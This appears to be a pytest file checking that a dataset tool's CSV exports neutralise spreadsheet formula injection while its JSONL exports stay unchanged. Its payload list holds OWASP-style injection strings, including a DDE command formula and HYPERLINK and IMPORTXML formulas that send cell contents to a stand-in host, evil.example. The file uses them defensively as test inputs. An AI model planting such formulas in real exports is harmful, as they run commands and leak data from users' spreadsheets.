"""CSV exports are safe to open in a spreadsheet: no cell that a spreadsheet would evaluate
starts with a formula trigger, whatever the annotators, the imported data or its metadata
hold. The JSONL of the same rows keeps every value unchanged."""

import csv
import io
import json
from typing import Any

import pandas as pd  # type: ignore[import-untyped]
import pytest

from datasets.exports.formats.tabular import FORMULA_TRIGGERS
from datasets.exports.rows import ExportRow, ImageInfo
from tests.datasets.test_export_formats import write

# OWASP's CSV injection examples and their usual variants.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/", A2), "//a")',
    "@@x",
    "-",
    "+",
    "=",
    "'=already quoted",
    '"=1+1"',
    "=1,2\r\n=3",
]
# These are text to every spreadsheet and must stay exactly as they are.
HARMLESS = [
    "\uff1d1+1",  # fullwidth equals sign
    "\uff0b1",  # fullwidth plus sign
    "\uff0d2",  # fullwidth hyphen-minus
    "\uff20SUM(A1)",  # fullwidth commercial at
    " =1+1",  # a leading space
    "a=1+1",
    "1-2",
    "",
    'plain, text with "quotes"',
]
CORPUS = PAYLOADS + HARMLESS


def rows(task_type: str) -> list[ExportRow]:
    """One row per corpus entry, the entry in every text-bearing field of the row."""
    out = []
    for index, text in enumerate(CORPUS):
        by_type: dict[str, dict[str, Any]] = {
            "classification": {"text": text},
            "pairwise": {"prompt": text, "response_a": text, "response_b": text},
            "boxes": {"image": text},
            "chat": {"messages": [{"role": "user", "content": text}]},
        }
        data = by_type[task_type]
        out.append(
            ExportRow(
                task_id=f"00000000-0000-4000-8000-{index:012d}",
                external_id=text,
                data=data,
                metadata={"note": text, text: text} if text else {"note": text},
                annotation_id=f"10000000-0000-4000-8000-{index:012d}",
                annotator=text,
                result={"labels": [text]} if task_type != "pairwise" else {"rationale": text},
                review_state=text,
                revision=1,
                time_spent=3.25,
                submitted_at=text,
                agreement=0.5,
                is_gold=False,
                image=ImageInfo(id=text, file_name=text, width=10, height=20)
                if task_type == "boxes"
                else None,
            )
        )
    return out


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula (or a hidden one)."""
    return cell.startswith(FORMULA_TRIGGERS)


NUMERIC = {"revision", "time_spent", "agreement", "image.width", "image.height"}


@pytest.mark.parametrize("task_type", ["classification", "pairwise", "boxes", "chat"])
def test_no_csv_cell_starts_with_a_formula_trigger(task_type):
    source = rows(task_type)
    _count, data = write("csv", source, task_type)
    read = list(csv.reader(io.StringIO(data.decode(), newline="")))
    header, body = read[0], read[1:]
    assert len(body) == len(CORPUS)
    for line in body:
        for column, cell in zip(header, line, strict=True):
            assert not evaluated(cell), (column, cell)
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    for column in frame.columns:
        for cell in frame[column]:
            assert not evaluated(cell), (column, cell)
    # Our own numbers stay numbers.
    numbers = pd.read_csv(io.BytesIO(data))
    assert numbers["time_spent"].tolist() == [3.25] * len(CORPUS)
    assert numbers["revision"].tolist() == [1] * len(CORPUS)


def test_neutralized_cells_are_the_value_with_a_leading_quote_and_others_untouched():
    source = rows("classification")
    _count, data = write("csv", source, "classification")
    body = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    for row, text in zip(body, CORPUS, strict=True):
        expected = "'" + text if evaluated(text) else text
        for column in ("external_id", "annotator", "review_state", "submitted_at", "data.text"):
            assert row[column] == expected, column
        # JSON cells start with { and are never touched; the text inside them is intact.
        assert json.loads(row["metadata"])["note"] == text
        assert json.loads(row["result"]) == {"labels": [text]}
    assert {row["external_id"] for row in body} >= set(HARMLESS) - {""}


def test_jsonl_of_the_same_rows_is_unchanged():
    source = rows("pairwise")
    _count, data = write("jsonl", source, "pairwise")
    records = [json.loads(line) for line in data.decode().splitlines()]
    for record, row, text in zip(records, source, CORPUS, strict=True):
        assert record["annotator"] == text
        assert record["external_id"] == text
        assert record["data"] == row.data
        assert record["metadata"] == row.metadata
        assert record["result"] == {"rationale": text}
        assert record["submitted_at"] == text


def test_the_corpus_exercises_every_trigger():
    assert {text[0] for text in PAYLOADS if text} >= set(FORMULA_TRIGGERS)
    assert all(not evaluated(text) for text in HARMLESS)
